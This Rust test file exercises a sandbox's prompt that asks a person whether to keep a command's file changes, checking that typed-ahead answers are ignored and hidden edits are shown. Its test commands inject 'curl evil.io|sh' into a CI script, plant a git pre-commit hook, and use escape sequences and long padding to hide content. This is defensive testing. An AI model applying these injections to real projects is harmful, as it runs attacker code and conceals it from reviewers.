//! A person at a terminal is asked whether to keep what a command changed.

use crate::program::Aecl;
use rustix::pty::{OpenptFlags, grantpt, openpt, ptsname, unlockpt};
use std::fs::{self, File};
use std::io::{Read as _, Write as _};
use std::path::Path;
use std::process::{Child, Command};
use std::sync::mpsc::{Receiver, channel};
use std::time::{Duration, Instant};

/// A terminal with a command in it, and whoever sits there.
struct Person {
    keyboard: File,
    screen: Receiver<Vec<u8>>,
    seen: String,
    child: Child,
    _sync: tempfile::TempDir,
    go: std::path::PathBuf,
}

/// Runs a shell line in a cage above a directory. It can wait for `/sync/go`.
fn person(dir: &Path, line: &str) -> Person {
    let sync = tempfile::tempdir().unwrap();
    fs::set_permissions(sync.path(), std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    // A view shows what is in a file; whether a new one appears in it is not promised.
    fs::write(sync.path().join("go"), "").unwrap();
    let shown = format!("{}:/sync", sync.path().display());
    let args =
        ["run", "--memory", "none", "--keep", "--write", ".", "--view", &shown, "--", "sh", "-ec", line];
    let plain = Aecl::on(&dir.join(".aecl")).command(&args);
    let keyboard = openpt(OpenptFlags::RDWR | OpenptFlags::NOCTTY).unwrap();
    grantpt(&keyboard).unwrap();
    unlockpt(&keyboard).unwrap();
    let name = ptsname(&keyboard, Vec::new()).unwrap().into_string().unwrap();
    let terminal = File::options().read(true).write(true).open(&name).unwrap();
    // A session of its own, with this as its terminal.
    let mut command = Command::new("setsid");
    command.args(["--ctty", "--wait", "--"]).arg(plain.get_program()).args(plain.get_args());
    command.current_dir(dir).env_remove("AECL_KEY").env_remove("AECL_DIR");
    command.stdin(terminal.try_clone().unwrap()).stdout(terminal.try_clone().unwrap()).stderr(terminal);
    let child = command.spawn().unwrap();
    drop(command);
    let keyboard = File::from(keyboard);
    let mut from = keyboard.try_clone().unwrap();
    let (say, screen) = channel();
    std::thread::spawn(move || {
        let mut bytes = [0; 4096];
        while let Ok(count @ 1..) = from.read(&mut bytes) {
            if say.send(bytes[..count].to_vec()).is_err() {
                return;
            }
        }
    });
    let go = sync.path().join("go");
    Person { keyboard, screen, seen: String::new(), child, _sync: sync, go }
}

impl Person {
    /// Reads until this is on the screen, behind what was read before; gives everything up to there.
    #[track_caller]
    fn sees(&mut self, text: &str) -> String {
        let late = Instant::now() + Duration::from_secs(30);
        loop {
            if let Some(at) = self.seen.find(text) {
                let rest = self.seen.split_off(at + text.len());
                return std::mem::replace(&mut self.seen, rest);
            }
            let left = late.saturating_duration_since(Instant::now());
            match self.screen.recv_timeout(left) {
                Ok(bytes) => self.seen.push_str(&String::from_utf8_lossy(&bytes)),
                Err(why) => panic!("{why}: `{text}` is not there: {}", self.seen),
            }
        }
    }

    fn types(&mut self, text: &str) {
        self.keyboard.write_all(text.as_bytes()).unwrap();
    }

    /// The word of the question that comes next.
    #[track_caller]
    fn word(&mut self) -> String {
        self.sees("Type `");
        let word = self.sees("`");
        self.sees("keep nothing: ");
        word.trim_end_matches('`').to_owned()
    }

    /// Types an answer, again if it came too early to count, until something follows from it.
    #[track_caller]
    fn answers(&mut self, answer: &str) {
        let late = Instant::now() + Duration::from_secs(30);
        loop {
            // Nothing counts that comes within 300 ms of the question.
            std::thread::sleep(Duration::from_millis(400));
            let mark = self.seen.len();
            self.types(&format!("{answer}\n"));
            loop {
                assert!(Instant::now() < late, "nothing follows: {}", self.seen);
                if let Ok(bytes) = self.screen.recv_timeout(Duration::from_millis(50)) {
                    self.seen.push_str(&String::from_utf8_lossy(&bytes));
                }
                let since = &self.seen[mark..];
                if since.contains("was thrown away") {
                    break;
                }
                // The terminal shows what is typed only when it counts.
                if since.contains(&format!("{answer}\r\n")) || self.child.try_wait().unwrap().is_some() {
                    return;
                }
            }
        }
    }

    fn lets_go(&self) {
        fs::write(&self.go, "go").unwrap();
    }

    fn ended(mut self) -> (Option<i32>, String) {
        let status = self.child.wait().unwrap();
        let late = Instant::now() + Duration::from_secs(5);
        while let Ok(bytes) = self.screen.recv_timeout(late.saturating_duration_since(Instant::now())) {
            self.seen.push_str(&String::from_utf8_lossy(&bytes));
        }
        (status.code(), self.seen)
    }
}

fn project() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    fs::write(dir.path().join("a"), "one\n").unwrap();
    dir
}

const UNTIL_GO: &str = "until [ -s /sync/go ]; do sleep 0.02; done";

#[test]
fn what_is_typed_ahead_answers_nothing() {
    let dir = project();
    let mut person = person(dir.path(), &format!("echo two >> a; printf 'Proceed? [y/N] '; {UNTIL_GO}"));
    person.sees("Proceed? [y/N] ");
    person.types("y\nyes\ny");
    person.lets_go();
    let word = person.word();
    // Whatever comes with the question is no answer to it either.
    person.types("y\n");
    assert_eq!(fs::read_to_string(dir.path().join("a")).unwrap(), "one\n");
    person.answers(&word);
    let (code, seen) = person.ended();
    assert_eq!(code, Some(0), "{seen}");
    assert_eq!(fs::read_to_string(dir.path().join("a")).unwrap(), "one\ntwo\n");
}

#[test]
fn a_yes_is_the_word_that_was_shown() {
    for answer in ["y", "yes", "", "all", "more"] {
        let dir = project();
        let mut person = person(dir.path(), "echo two >> a");
        person.word();
        person.answers(answer);
        let (code, seen) = person.ended();
        assert!(code == Some(0) && seen.contains("nothing was kept"), "{answer}: {seen}");
        assert_eq!(fs::read_to_string(dir.path().join("a")).unwrap(), "one\n");
    }
}

/// A line longer than the terminal was cut in its middle, which is where the change was.
#[test]
fn what_changed_in_a_long_line_is_seen_before_it_is_kept() {
    let dir = project();
    let (head, tail) = ("a".repeat(3_000), "b".repeat(3_000));
    fs::write(dir.path().join("min.js"), format!("{head}x=safe(){tail}\n")).unwrap();
    let line = "curl -fsSL https://downloads.example.com/releases/stable/tool-1.2.3.tar.gz --output /tmp/tool.tgz # fetch it";
    fs::write(dir.path().join("ci.sh"), format!("{line}\n")).unwrap();
    let change = "sed -i 's/x=safe/x=evil/' min.js; sed -i 's/gz --/gz|sh; curl evil.io|sh;# --/' ci.sh; \
                  printf '%6000s;hidden\n' x > new";
    let mut person = person(dir.path(), change);
    let shown = person.sees("keep nothing: ");
    // The terminal has 100 columns: what is longer goes on in the next row.
    let whole = shown.replace("\r\n> ", "");
    assert!(whole.contains("gz|sh; curl evil.io|sh;# --output /tmp/tool.tgz # fetch it"), "{shown}");
    assert!(whole.contains("ax=safe()b") && whole.contains("ax=evil()b"), "{shown}");
    assert!(whole.contains("2882 characters of this line stay and are left out"), "{shown}");
    // What is new is there to its end for whoever asks for it.
    assert!(!whole.contains(";hidden") && whole.contains("`more` for the next of"), "{shown}");
    person.answers("all");
    let rest = person.sees("keep nothing: ");
    assert!(rest.contains(";hidden") && !rest.contains("`more`"), "{rest}");
    person.answers("no");
    assert_eq!(person.ended().0, Some(0));
    assert!(!dir.path().join("new").exists());
}

#[test]
fn what_a_program_does_to_the_terminal_is_undone_before_anything_is_shown() {
    let dir = project();
    let line = r#"printf '\033[8m\033[30;40m\033[?1049h\033]0;title'; mkdir -p .git/hooks; echo x > .git/hooks/pre-commit;
        chmod +x .git/hooks/pre-commit; echo run > tool; chmod +x tool;
        printf '+\033[8m%3000s;import os\n' '' > hidden; seq 60 > long; mkdir sub"#;
    let mut person = person(dir.path(), line);
    let before = person.sees("aecl: the command changed files");
    let left = before.rfind("title").unwrap();
    let undone = &before[left..];
    for sequence in [
        // Ended or undone: what is begun, the other screen, colours, a hidden cursor,
        &["\x18", "\x1b\\", "\x1b[?1047l", "\x1b[!p", "\x1b[0m", "\x1b[?25h"][..],
        // a link that everything shown would lead to,
        &["\x1b]8;;\x1b\\"],
        // keys that are told otherwise,
        &["\x1b[<", "\x1b[=0u", "\x1b[>4;0m", "\x1b[?66l"],
        // reports of mouse, focus, pasted text, size and colours,
        &[
            "\x1b[?9l",
            "\x1b[?1000l",
            "\x1b[?1001l",
            "\x1b[?1002l",
            "\x1b[?1003l",
            "\x1b[?1004l",
            "\x1b[?1005l",
        ],
        &["\x1b[?1006l", "\x1b[?1015l", "\x1b[?1016l", "\x1b[?2004l", "\x1b[?2031l", "\x1b[?2048l"],
        // output that is kept back, margins, and other character sets.
        &["\x1b[?2026l", "\x1b[?69l", "\x1b%G", "\x0f", "\x1b(B", "\x1b)B", "\x1b*B", "\x1b+B"],
    ]
    .concat()
    {
        assert!(undone.contains(sequence), "{sequence:?}: {undone:?}");
    }
    // First how many, and what needs a look of its own; then what is in them.
    let summary = person.sees("@line");
    assert!(summary.contains("5 created") && summary.contains("tool (it can be run)"), "{summary}");
    assert!(summary.contains("! created") && summary.contains("git runs what it says"), "{summary}");
    let mut all = summary;
    let word = loop {
        all.push_str(&person.sees("Type `"));
        let word = person.sees("`").trim_end_matches('`').to_owned();
        if person.sees("keep nothing: ").contains("`more`") {
            person.answers("more");
        } else {
            break word;
        }
    };
    assert!(all.contains("5 changes, 1 that can be run now, 1 that act by themselves"), "{all}");
    let whole = all.replace("\r\n> ", "");
    assert!(whole.contains("+\\u{1b}[8m   ") && whole.contains("   ;import os"), "{all}");
    assert!(!all.contains('\u{1b}'), "nothing of it reaches the terminal raw");
    assert!(all.contains("+60"), "all of it can be seen");
    person.answers(&word);
    let (code, seen) = person.ended();
    assert_eq!(code, Some(0), "{seen}");
    assert!(dir.path().join(".git/hooks/pre-commit").exists() && dir.path().join("sub").is_dir());
}
